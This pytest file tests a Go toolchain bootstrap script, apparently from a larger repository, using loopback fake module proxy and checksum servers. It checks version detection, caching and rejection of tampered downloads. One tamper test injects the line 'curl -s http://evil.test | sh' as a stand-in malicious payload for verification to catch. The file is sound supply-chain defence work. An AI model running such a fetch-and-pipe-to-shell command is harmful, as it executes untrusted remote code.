"""toolchain/ensure_go.py: a Go new enough for toolchain/*/go.mod, on its own (issue 15).  The local go when it
is new enough; GOTOOLCHAIN when it is 1.21 or later (go fetches the toolchain itself); else the module
golang.org/toolchain downloaded from a module proxy and checked against a checksum database, both served
here on loopback.  The script runs for real; the `go` commands are stand-ins reporting a version."""

from __future__ import annotations

import base64
import hashlib
import http.server
import importlib.util
import io
import os
import re
import shutil
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType

import pytest

REPO = Path(__file__).resolve().parents[2]
ENSURE = REPO / "toolchain" / "ensure_go.py"
NEED = "1.26.6"  # the highest `go` directive of the modules folder each test gets


def load_module() -> ModuleType:
    spec = importlib.util.spec_from_file_location("ensure_go", ENSURE)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


ensure_go = load_module()
PLATFORM = ensure_go.platform_name()  # linux-amd64 here
MODULE_VERSION = f"v0.0.1-go{NEED}.{PLATFORM}"
PREFIX = f"golang.org/toolchain@{MODULE_VERSION}/"
ZIP_PATH = f"/golang.org/toolchain/@v/{MODULE_VERSION}.zip"
LOOKUP_PATH = f"/lookup/golang.org/toolchain@{MODULE_VERSION}"


# ------------------------------------------------------------------------------ stand-ins


def fake_go(path: Path, version: str, goroot: Path | None = None) -> Path:
    """A `go` that reports VERSION and logs its calls; with GOROOT, `GOTOOLCHAIN=goX go env GOROOT` "fetches"
    the toolchain there as go would (GOPROXY=off fails until it has been fetched once)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    switch = ""
    if goroot is not None:
        fake_go(goroot / "bin" / "go", NEED)
        switch = f"""
if [ "$1 $2" = "env GOROOT" ] && [ "$GOTOOLCHAIN" = go{NEED} ]; then
    if [ "${{GOPROXY:-}}" = off ] && [ ! -e "{goroot}/.fetched" ]; then echo "go: download go{NEED}: module lookup disabled by GOPROXY=off" >&2; exit 1; fi
    [ "${{GOPROXY:-}}" = off ] || echo "go: downloading go{NEED} (linux/amd64)" >&2
    : >"{goroot}/.fetched"
    echo "{goroot}"
    exit 0
fi"""
    path.write_text(
        f"""#!/bin/sh
echo "$0 GOTOOLCHAIN=${{GOTOOLCHAIN:-}} GOPROXY=${{GOPROXY:-}} $*" >>"$HS_LOG"{switch}
case $1 in
    version) echo "go version go{version} linux/amd64" ;;
    env) echo "go{version}" ;;
    *) ;;
esac
"""
    )
    path.chmod(0o755)
    return path


def toolchain_files(version: str = NEED) -> dict[str, bytes]:
    return {
        PREFIX + "bin/go": f'#!/bin/sh\necho "go version go{version} linux/amd64"\n'.encode(),
        PREFIX + "bin/gofmt": b"#!/bin/sh\n",
        PREFIX + f"pkg/tool/{PLATFORM.replace('-', '_')}/compile": b"\x7fELF compile",
        PREFIX + "src/fmt/print.go": b"package fmt\n",
        PREFIX + "go.env": b"GOPROXY=https://proxy.golang.org,direct\n",
    }


def make_zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
    return out.getvalue()


def h1(files: dict[str, bytes]) -> str:
    """Go's dirhash Hash1, written out here independently of the script."""
    lines = "".join(f"{hashlib.sha256(data).hexdigest()}  {name}\n" for name, data in sorted(files.items()))
    return "h1:" + base64.b64encode(hashlib.sha256(lines.encode()).digest()).decode()


class Site:
    """A web server on loopback: FILES by URL path, and the paths asked for."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.asked: list[str] = []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                body = site.files.get(self.path)
                self.send_response(200 if body is not None else 404)
                self.send_header("Content-Length", str(len(body or b"")))
                self.end_headers()
                self.wfile.write(body or b"")

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()


def lookup_answer(hash_: str) -> bytes:
    return (
        f"4711\ngolang.org/toolchain {MODULE_VERSION} {hash_}\ngolang.org/toolchain {MODULE_VERSION}/go.mod h1:{'A' * 43}=\n\n"
        "go.sum database tree\n5000\nAAAA\n\n— sum.golang.org AAAA\n"
    ).encode()


class World:
    """A module proxy and a checksum database on loopback, and the folders a run sees."""

    def __init__(self, tmp: Path, proxy: Site, sumdb: Site) -> None:
        self.tmp, self.proxy, self.sumdb = tmp, proxy, sumdb
        self.bin = tmp / "bin"  # on PATH
        self.bin.mkdir()
        self.usr_local_go = tmp / "usr-local-go" / "bin" / "go"  # stands for /usr/local/go/bin/go
        self.cache = tmp / "cache"
        self.log = tmp / "log"
        self.modules = tmp / "modules"
        for name, directive in (("a", "1.23"), ("b", NEED), ("c", "1.26"), ("d", "1.22")):
            (self.modules / name).mkdir(parents=True)
            (self.modules / name / "go.mod").write_text(f"module example.com/{name}\n\ngo {directive}\n")

    def publish(self, zip_files: dict[str, bytes], hash_: str | None = None, *, sumdb_through_proxy: bool = False) -> None:
        self.proxy.files[ZIP_PATH] = make_zip(zip_files)
        answer = lookup_answer(hash_ or h1(zip_files))
        if sumdb_through_proxy:
            self.proxy.files["/sumdb/sum.golang.org/supported"] = b""
            self.proxy.files["/sumdb/sum.golang.org" + LOOKUP_PATH] = answer
        else:
            self.sumdb.files[LOOKUP_PATH] = answer

    def env(self, **extra: str) -> dict[str, str]:
        return {
            "PATH": f"{self.bin}:{self.system()}",
            "HOME": str(self.tmp),
            "HA_SWARM_CACHE": str(self.cache),
            "HS_ENSURE_GO_LOCAL": str(self.usr_local_go),
            "HS_ENSURE_GO_MODULES": str(self.modules),
            "HS_LOG": str(self.log),
            "GOPROXY": f"{self.proxy.url},direct",
            "GOSUMDB": f"sum.golang.org {self.sumdb.url}",
            **extra,
        }

    def system(self) -> Path:
        """The machine's tools the scripts use, and no go (this machine may have one anywhere)."""
        system = self.tmp / "system"
        if not system.exists():
            system.mkdir()
            (system / "python3").symlink_to(sys.executable)
            tools = "bash sh env cat sed head tail dirname mkdir rm ls flock date stat sha256sum cut find sort xargs tr awk grep make chmod mv"
            for tool in tools.split():
                found = shutil.which(tool, path="/usr/bin:/bin")
                if found:
                    (system / tool).symlink_to(found)
        return system

    def run(self, *args: str, **extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, str(ENSURE), *args], env=self.env(**extra), capture_output=True, text=True, timeout=60, check=False)

    def calls(self) -> list[str]:
        return self.log.read_text().splitlines() if self.log.exists() else []

    def asked(self) -> list[str]:
        return self.proxy.asked + self.sumdb.asked

    def fetched_root(self) -> Path:
        return self.cache / "go" / f"go{NEED}.{PLATFORM}"


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    proxy, sumdb = Site(), Site()
    yield World(tmp_path, proxy, sumdb)
    proxy.server.shutdown()
    sumdb.server.shutdown()


# ------------------------------------------------------------------------------ the needed version


def test_the_needed_version_is_the_highest_go_directive(world: World) -> None:
    res = world.run("--needed")
    assert (res.returncode, res.stdout) == (0, f"{NEED}\n"), res.stderr
    # The repository's own: what toolchain/*/go.mod say, nothing written anywhere else.
    directives = [m.group(1) for f in (REPO / "toolchain").glob("*/go.mod") for m in [re.search(r"^go (\S+)$", f.read_text(), re.M)] if m]
    highest = max(directives, key=lambda v: tuple(int(p) for p in v.split(".")))
    res = subprocess.run([sys.executable, str(ENSURE), "--needed"], capture_output=True, text=True, check=True)
    assert res.stdout.strip() == (highest if highest.count(".") == 2 else highest + ".0")


# ------------------------------------------------------------------------------ 1. a local go


def test_a_local_go_new_enough_is_used_as_it_is(world: World) -> None:
    go = fake_go(world.bin / "go", "1.26.8")
    res = world.run()
    assert (res.returncode, res.stdout, res.stderr) == (0, f"{go}\n", "")
    assert world.calls() == [f"{go} GOTOOLCHAIN=local GOPROXY={world.proxy.url},direct version"]
    assert world.asked() == [] and not world.cache.exists()


def test_a_new_enough_go_in_usr_local_go_wins_over_an_older_one_on_path(world: World) -> None:
    fake_go(world.bin / "go", "1.19.8")
    local = fake_go(world.usr_local_go, "1.26.8")
    res = world.run()
    assert (res.returncode, res.stdout) == (0, f"{local}\n"), res.stderr
    assert "1.19.8" in res.stderr and world.asked() == []


# ------------------------------------------------------------------------------ 2. GOTOOLCHAIN


def test_a_go_of_1_21_or_later_fetches_the_needed_go_itself_through_gotoolchain(world: World) -> None:
    goroot = world.tmp / "gomodcache" / f"golang.org/toolchain@{MODULE_VERSION}"
    go = fake_go(world.bin / "go", "1.22.2", goroot=goroot)
    res = world.run()
    assert (res.returncode, res.stdout) == (0, f"{goroot}/bin/go\n"), res.stderr
    assert f"GOTOOLCHAIN=go{NEED}" in res.stderr and "go: downloading" in res.stderr
    assert f"{go} GOTOOLCHAIN=go{NEED} GOPROXY={world.proxy.url},direct env GOROOT" in world.calls()
    assert world.asked() == [] and not world.cache.exists(), "go fetches it, not the script"
    # Fetched once: later runs find it in go's module cache, offline and silently.
    again = world.run()
    assert (again.returncode, again.stdout, again.stderr) == (0, res.stdout, "")
    assert world.calls()[-2].endswith(f"GOTOOLCHAIN=go{NEED} GOPROXY=off env GOROOT")


# ------------------------------------------------------------------------------ 3. the module, checked


def test_an_older_go_gets_the_toolchain_module_downloaded_checked_and_unpacked_once(world: World) -> None:
    old = fake_go(world.bin / "go", "1.19.8")
    world.publish(toolchain_files())
    res = world.run()
    assert res.returncode == 0, res.stderr
    root = world.fetched_root()
    assert res.stdout == f"{root}/bin/go\n"
    assert subprocess.run([f"{root}/bin/go", "version"], capture_output=True, text=True, check=True).stdout.startswith(f"go version go{NEED} ")
    assert os.access(root / "bin" / "gofmt", os.X_OK) and os.access(next((root / "pkg" / "tool").glob("*/compile")), os.X_OK)
    assert not os.access(root / "src" / "fmt" / "print.go", os.X_OK)
    download = next(line for line in res.stderr.splitlines() if "downloading" in line)
    assert MODULE_VERSION in download and world.proxy.url in download and " MB: about " in download and " min " in download
    assert f"{old} is 1.19.8" in res.stderr and "checked against sum.golang.org" in res.stderr
    assert world.sumdb.asked == [LOOKUP_PATH] and world.proxy.asked == ["/sumdb/sum.golang.org/supported", ZIP_PATH]
    assert [c for c in world.calls() if " env " in c] == [], "go 1.19 cannot switch toolchains"
    assert sorted(p.name for p in (world.cache / "go").iterdir()) == [root.name, root.name + ".h1"], "no leftovers"
    # Once: the next run takes it from the cache, without the network, silently.
    asked = world.asked()
    again = world.run()
    assert (again.returncode, again.stdout, again.stderr) == (0, res.stdout, "")
    assert world.asked() == asked


def test_without_any_go_the_checksum_database_is_reached_through_the_proxy_when_it_serves_it(world: World) -> None:
    world.publish(toolchain_files(), sumdb_through_proxy=True)
    res = world.run()
    assert (res.returncode, res.stdout) == (0, f"{world.fetched_root()}/bin/go\n"), res.stderr
    assert "no go on PATH nor in /usr/local/go" in res.stderr
    assert world.proxy.asked == ["/sumdb/sum.golang.org/supported", "/sumdb/sum.golang.org" + LOOKUP_PATH, ZIP_PATH]
    assert world.sumdb.asked == []


def test_a_tampered_zip_is_refused_and_nothing_is_installed(world: World) -> None:
    fake_go(world.bin / "go", "1.19.8")
    good = toolchain_files()
    bad = {**good, PREFIX + "bin/go": good[PREFIX + "bin/go"] + b"curl -s http://evil.test | sh\n"}
    world.publish(bad, hash_=h1(good))
    res = world.run()
    assert (res.returncode, res.stdout) == (1, "")
    assert "checksum mismatch" in res.stderr and h1(good) in res.stderr and h1(bad) in res.stderr and "nothing installed" in res.stderr
    assert list((world.cache / "go").iterdir()) == [], "nothing unpacked, no leftovers"
    assert world.proxy.asked.count(ZIP_PATH) == 1, "no second source tried silently"


def test_a_module_the_checksum_database_does_not_know_is_not_even_downloaded(world: World) -> None:
    world.proxy.files[ZIP_PATH] = make_zip(toolchain_files())
    res = world.run()
    assert (res.returncode, res.stdout) == (1, "")
    assert "checksum database sum.golang.org did not answer" in res.stderr and "404" in res.stderr
    assert ZIP_PATH not in world.proxy.asked and not world.fetched_root().exists()


def test_without_a_checksum_database_nothing_is_downloaded(world: World) -> None:
    world.publish(toolchain_files())
    res = world.run(GOSUMDB="off")
    assert (res.returncode, res.stdout) == (1, "")
    assert "GOSUMDB=off" in res.stderr and world.asked() == []


def test_offline_nothing_is_fetched(world: World) -> None:
    fake_go(world.bin / "go", "1.19.8")
    world.publish(toolchain_files())
    res = world.run("--offline")
    assert (res.returncode, res.stdout) == (1, "")
    assert f"Go {NEED} is not on this machine yet" in res.stderr and world.asked() == []


def test_the_zip_hash_is_the_one_go_computes(tmp_path: Path) -> None:
    # The h1 of this zip as golang.org/x/mod/sumdb/dirhash.HashZip(zip, dirhash.Hash1) gives it (x/mod v0.38.0).
    files = {"example.com/m@v1.0.0/go.mod": b"module example.com/m\n", "example.com/m@v1.0.0/m.go": b"package m\n", "example.com/m@v1.0.0/bin/tool": bytes(range(256))}
    path = tmp_path / "m.zip"
    path.write_bytes(make_zip(files))
    assert ensure_go.hash_zip(path) == "h1:eh/wsLQ05JotAVhfk1RiuHIJpWuKfyAHuwzV2adZ6iM="
    assert h1(files) == ensure_go.hash_zip(path), "the fake checksum database hashes as go does"


# ------------------------------------------------------------------------------ its callers


def test_make_go_test_runs_the_go_that_ensure_go_gives(world: World) -> None:
    goroot = world.tmp / "gomodcache" / f"golang.org/toolchain@{MODULE_VERSION}"
    fake_go(world.bin / "go", "1.22.2", goroot=goroot)
    res = subprocess.run(["make", "-s", "go-test"], cwd=REPO, env=world.env(), capture_output=True, text=True, timeout=60, check=False)
    assert res.returncode == 0, res.stdout + res.stderr
    tests = [c for c in world.calls() if c.endswith(" test -count=1 ./...")]
    assert tests and all(c.startswith(f"{goroot}/bin/go GOTOOLCHAIN=local ") for c in tests), world.calls()
    assert "go test toolchain/command-provider" in res.stdout and "go test toolchain/whoami-lite" in res.stdout


def test_build_sh_stops_when_the_go_download_is_refused_and_check_fetches_nothing(world: World) -> None:
    good = toolchain_files()
    world.publish({**good, PREFIX + "bin/go": b"#!/bin/sh\necho tampered\n"}, hash_=h1(good))
    build = [str(world.system() / "bash"), str(REPO / "toolchain" / "build.sh"), "--only", "whoami"]
    check = subprocess.run([*build, "--check"], env=world.env(), capture_output=True, text=True, timeout=60, check=False)
    assert (check.returncode, check.stdout) == (1, "")
    assert "go: MISSING" in check.stderr and world.asked() == []
    res = subprocess.run(build, env=world.env(), capture_output=True, text=True, timeout=60, check=False)
    assert (res.returncode, res.stdout) == (1, "")
    assert "checksum mismatch" in res.stderr and "no Go new enough" in res.stderr
    assert not (world.cache / "toolchain" / "images").exists(), "nothing built"
